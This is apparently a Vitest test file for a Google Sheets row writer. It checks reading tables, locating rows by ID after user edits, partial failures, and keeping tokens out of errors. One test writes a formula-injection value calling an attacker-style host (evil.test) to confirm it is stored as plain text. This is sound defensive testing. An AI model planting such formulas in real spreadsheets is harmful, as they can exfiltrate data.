import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { isRowbridgeError } from '../../shared/errors.ts';
import { virtualClock } from '../connectors/virtual-clock.ts';
import type { SandboxSheetsState } from '../sandbox/sheets/index.ts';
import { type WriterHarness, writerHarness } from './harness.ts';
import type { SheetsWriter } from './writer.ts';

let harness: WriterHarness;
let writer: SheetsWriter;
let state: SandboxSheetsState;
let id: string;

const HEADER = ['Name', 'Email', 'Status', ' rowbridge  ID (do not edit) '];

beforeEach(async () => {
  harness = await writerHarness({ clock: virtualClock() });
  writer = harness.writer;
  state = harness.sandbox.state;
  id = state.createSpreadsheet({
    tabs: [
      {
        title: 'Leads',
        rowCount: 30,
        columnCount: 6,
        rows: [
          HEADER,
          ['Ann', 'ann@acme.com', 'New', 'rb_ann'],
          ['Bob', 'bob@acme.com', 'New', 'rb_bob'],
          ['Cy', 'cy@acme.com', 'New', 'rb_cy'],
          ['Di', 'di@acme.com', 'New', 'rb_di'],
        ],
      },
    ],
  });
});
afterEach(() => harness.close());

const grid = () => state.grid(id, 'Leads');
const rowOf = (rowId: string) => grid().find((row) => row[3] === rowId);

async function failure(promise: Promise<unknown>) {
  try {
    await promise;
  } catch (error) {
    if (isRowbridgeError(error)) return error;
    throw error;
  }
  throw new Error('expected a RowbridgeError');
}

describe('readTable', () => {
  it('reads headers, rows by Rowbridge ID and cells by header', async () => {
    const table = await writer.readTable(id, 'Leads');
    expect(table.headers).toEqual(['Name', 'Email', 'Status', 'rowbridge  ID (do not edit)']);
    expect(table.idHeader).toBe('rowbridge  ID (do not edit)');
    expect(table.rows[1]).toEqual({
      rowNumber: 3,
      rowId: 'rb_bob',
      cells: { Name: 'Bob', Email: 'bob@acme.com', Status: 'New', 'rowbridge  ID (do not edit)': 'rb_bob' },
    });
    expect(table.problems).toEqual([]);
  });

  it('reports duplicate IDs, rows without an ID and a repeated header, and skips empty rows', async () => {
    state.editAsUser(id, 'Leads!A7', [
      ['Ann copy', 'ann@acme.com', 'New', 'rb_ann'],
      ['No id', 'x@acme.com'],
    ]);
    state.editAsUser(id, 'Leads!E1', [['status']]);
    const table = await writer.readTable(id, 'Leads');
    expect(table.rows.map((r) => [r.rowNumber, r.rowId])).toEqual([
      [2, 'rb_ann'],
      [3, 'rb_bob'],
      [4, 'rb_cy'],
      [5, 'rb_di'],
      [7, 'rb_ann'],
      [8, null],
    ]);
    expect(table.problems.map((p) => [p.code, p.path])).toEqual([
      ['mapping_duplicate_header', ['header', 'Status']],
      ['sheet_row_id_missing', ['row', 8]],
      ['sheet_row_id_duplicate', ['rowId', 'rb_ann']],
    ]);
    expect(table.problems[2]?.message).toMatch(/rows 2, 7 of "Leads"/);
  });

  it('says which header is missing, and which tab is', async () => {
    state.editAsUser(id, 'Leads!D1', [['Notes']]);
    const noId = await failure(writer.readTable(id, 'Leads'));
    expect(noId.code).toBe('sheet_header_missing');
    expect(noId.message).toContain('no "Rowbridge ID" column');
    const noTab = await failure(writer.readTable(id, 'Archive'));
    expect(noTab.code).toBe('sheet_not_found');
    expect(noTab.message).toContain('"Archive"');
  });
});

describe('writeRows', () => {
  it('writes only the given cells, RAW: a formula from the CRM lands as text', async () => {
    const formula = '=IMPORTXML("https://evil.test","//a")';
    const results = await writer.writeRows(id, 'Leads', [
      { rowId: 'rb_bob', values: { ' status ': 'Won', NAME: formula } },
      { rowId: 'rb_cy', values: { Email: null } },
    ]);
    expect(results).toEqual([
      { rowId: 'rb_bob', status: 'updated', rowNumber: 3 },
      { rowId: 'rb_cy', status: 'updated', rowNumber: 4 },
    ]);
    // Shown as typed: a formula would show its result (the sandbox shows #NAME?).
    expect(rowOf('rb_bob')).toEqual([formula, 'bob@acme.com', 'Won', 'rb_bob']);
    expect(rowOf('rb_cy')).toEqual(['Cy', '', 'New', 'rb_cy']);
    expect(rowOf('rb_ann')).toEqual(['Ann', 'ann@acme.com', 'New', 'rb_ann']);
  });

  it('keeps numbers and booleans as values', async () => {
    await writer.writeRows(id, 'Leads', [{ rowId: 'rb_ann', values: { Name: 42, Status: true } }]);
    const stored = state.grid(id, 'Leads', 'UNFORMATTED_VALUE').find((row) => row[3] === 'rb_ann');
    expect(stored).toEqual([42, 'ann@acme.com', true, 'rb_ann']);
  });

  it('finds rows where they are now after a user sorted, inserted and deleted rows', async () => {
    await writer.readTable(id, 'Leads');
    state.sortAsUser(id, 'Leads', { column: 'A', descending: true }); // Di, Cy, Bob, Ann
    state.insertRowsAsUser(id, 'Leads', 2, 2);
    state.deleteRowsAsUser(id, 'Leads', 5); // Cy's row
    const results = await writer.writeRows(id, 'Leads', [
      { rowId: 'rb_ann', values: { Status: 'Ann now' } },
      { rowId: 'rb_cy', values: { Status: 'Cy now' } },
      { rowId: 'rb_di', values: { Status: 'Di now' } },
    ]);
    expect(results).toEqual([
      { rowId: 'rb_ann', status: 'updated', rowNumber: 6 },
      {
        rowId: 'rb_cy',
        status: 'failed',
        problem: expect.objectContaining({
          code: 'sheet_row_not_found',
          message: expect.stringContaining('"rb_cy"'),
        }),
      },
      { rowId: 'rb_di', status: 'updated', rowNumber: 4 },
    ]);
    expect(grid()).toEqual([
      HEADER,
      [],
      [],
      ['Di', 'di@acme.com', 'Di now', 'rb_di'],
      ['Bob', 'bob@acme.com', 'New', 'rb_bob'],
      ['Ann', 'ann@acme.com', 'Ann now', 'rb_ann'],
    ]);
  });

  it('writes to neither copy of a duplicated ID, and still writes the other changes', async () => {
    state.editAsUser(id, 'Leads!A6', [['Bob (copy)', 'bob2@acme.com', 'New', 'rb_bob']]);
    const results = await writer.writeRows(id, 'Leads', [
      { rowId: 'rb_bob', values: { Status: 'Won' } },
      { rowId: 'rb_ann', values: { Status: 'Lost' } },
    ]);
    expect(results[0]).toMatchObject({ status: 'failed', problem: { code: 'sheet_row_id_duplicate' } });
    expect(results[1]).toEqual({ rowId: 'rb_ann', status: 'updated', rowNumber: 2 });
    expect(
      grid()
        .filter((row) => row[3] === 'rb_bob')
        .map((row) => row[2]),
    ).toEqual(['New', 'New']);
  });

  it('fails only the change with a cell over 50,000 characters (Google refuses the whole request)', async () => {
    const long = 'x'.repeat(50_001);
    const results = await writer.writeRows(id, 'Leads', [
      { rowId: 'rb_ann', values: { Status: long } },
      { rowId: 'rb_bob', values: { Status: 'Won' } },
    ]);
    expect(results[0]).toMatchObject({
      status: 'failed',
      problem: { code: 'sheets_rejected', path: ['values', 'Status'] },
    });
    expect(results[0]?.status === 'failed' && results[0].problem.message).toMatch(/50,001 characters/);
    expect(results[1]).toMatchObject({ rowId: 'rb_bob', status: 'updated' });
    // The sandbox refuses such a cell like Google: a client that sent it would have lost the whole batch.
    await expect(
      harness.served.client().spreadsheets.values.update({
        spreadsheetId: id,
        range: 'Leads!C2',
        valueInputOption: 'RAW',
        requestBody: { values: [[long]] },
      }),
    ).rejects.toThrow(/maximum of 50000 characters/);
  });

  it('fails a change naming a header the sheet lacks, without writing any of it', async () => {
    const [result] = await writer.writeRows(id, 'Leads', [
      { rowId: 'rb_ann', values: { Status: 'Won', Phone: '555' } },
    ]);
    expect(result).toMatchObject({ status: 'failed', problem: { code: 'sheet_header_missing' } });
    expect(result?.status === 'failed' && result.problem.message).toContain('no "Phone" column');
    expect(rowOf('rb_ann')?.[2]).toBe('New');
  });

  it('follows the ID column when a user moves it, and fails every change once it is gone', async () => {
    await writer.writeRows(id, 'Leads', [{ rowId: 'rb_ann', values: { Status: 'one' } }]);
    // The user inserts a column at A: every column moves right, the ID column with them.
    await harness.served.client().spreadsheets.batchUpdate({
      spreadsheetId: id,
      requestBody: {
        requests: [
          {
            insertDimension: {
              range: {
                sheetId: state.tab(id, 'Leads').sheetId,
                dimension: 'COLUMNS',
                startIndex: 0,
                endIndex: 1,
              },
            },
          },
        ],
      },
    });
    state.editAsUser(id, 'Leads!B1', [['Name']]);
    const moved = await writer.writeRows(id, 'Leads', [{ rowId: 'rb_ann', values: { Status: 'two' } }]);
    expect(moved).toEqual([{ rowId: 'rb_ann', status: 'updated', rowNumber: 2 }]);
    expect(grid()[1]).toEqual(['', 'Ann', 'ann@acme.com', 'two', 'rb_ann']);

    state.editAsUser(id, 'Leads!E1', [['Notes']]);
    const gone = await writer.writeRows(id, 'Leads', [{ rowId: 'rb_ann', values: { Status: 'three' } }]);
    expect(gone[0]).toMatchObject({ status: 'failed', problem: { code: 'sheet_header_missing' } });
    expect(grid()[1]?.[3]).toBe('two');
  });

  it('fails changes for a tab that is gone, and still writes another tab of the same batch', async () => {
    state.addTab(id, {
      title: 'Deals',
      rows: [
        ['Deal', 'Rowbridge ID'],
        ['Big', 'rb_big'],
      ],
    });
    await writer.writeRows(id, 'Leads', [{ rowId: 'rb_ann', values: { Status: 'seen' } }]);
    state.renameTabAsUser(id, 'Leads', 'Old leads');
    const [leads, deals] = await Promise.all([
      writer.writeRows(id, 'Leads', [{ rowId: 'rb_ann', values: { Status: 'lost' } }]),
      writer.writeRows(id, 'Deals', [{ rowId: 'rb_big', values: { Deal: 'Bigger' } }]),
    ]);
    expect(leads[0]).toMatchObject({ status: 'failed', problem: { code: 'sheet_not_found' } });
    expect(deals).toEqual([{ rowId: 'rb_big', status: 'updated', rowNumber: 2 }]);
    expect(state.grid(id, 'Deals')[1]).toEqual(['Bigger', 'rb_big']);
  });

  it('rejects for a spreadsheet that does not exist, and never puts the token in an error', async () => {
    const missing = await failure(writer.writeRows('no-such-sheet', 'Leads', [{ rowId: 'x', values: {} }]));
    expect(missing.code).toBe('sheet_not_found');
    harness.sandbox.faults.fail5xx(100);
    const down = await failure(writer.writeRows(id, 'Leads', [{ rowId: 'rb_ann', values: { Status: 'x' } }]));
    expect(down.code).toBe('sheets_unavailable');
    for (const error of [missing, down]) {
      expect(`${error.message} ${JSON.stringify(error)} ${String(error.stack)}`).not.toContain(harness.token);
    }
  });
});

describe('appendRows', () => {
  it('adds rows under the table with their IDs, RAW, and updates a row whose ID is already there', async () => {
    state.editAsUser(id, 'Leads!A8', [['a note below the table']]);
    const results = await writer.appendRows(id, 'Leads', [
      { rowId: 'rb_eve', values: { Name: 'Eve', Status: '=1+1' } },
      { rowId: 'rb_ann', values: { Status: 'Re-imported' } },
      { rowId: 'rb_fay', values: { Email: 'fay@acme.com' } },
    ]);
    expect(results).toEqual([
      { rowId: 'rb_eve', status: 'appended', rowNumber: 6 },
      { rowId: 'rb_ann', status: 'updated', rowNumber: 2 },
      { rowId: 'rb_fay', status: 'appended', rowNumber: 7 },
    ]);
    expect(grid().slice(5)).toEqual([
      ['Eve', '', '=1+1', 'rb_eve'],
      ['', 'fay@acme.com', '', 'rb_fay'],
      [],
      [],
      ['a note below the table'],
    ]);
    expect(rowOf('rb_ann')?.[2]).toBe('Re-imported');
  });
});

describe('ensureIdColumn', () => {
  it('adds a hidden "Rowbridge ID" column after the last header, once', async () => {
    state.addTab(id, { title: 'Fresh', rowCount: 5, columnCount: 2, rows: [['Name', 'Email']] });
    expect(await writer.ensureIdColumn(id, 'Fresh')).toEqual({ column: 2, added: true });
    expect(state.grid(id, 'Fresh')).toEqual([['Name', 'Email', 'Rowbridge ID']]);
    expect(state.tab(id, 'Fresh')).toMatchObject({ columnCount: 3, hiddenColumns: [2] });
    expect(await writer.ensureIdColumn(id, 'Fresh')).toEqual({ column: 2, added: false });
    expect(await writer.ensureIdColumn(id, 'Leads')).toEqual({ column: 3, added: false });
  });
});
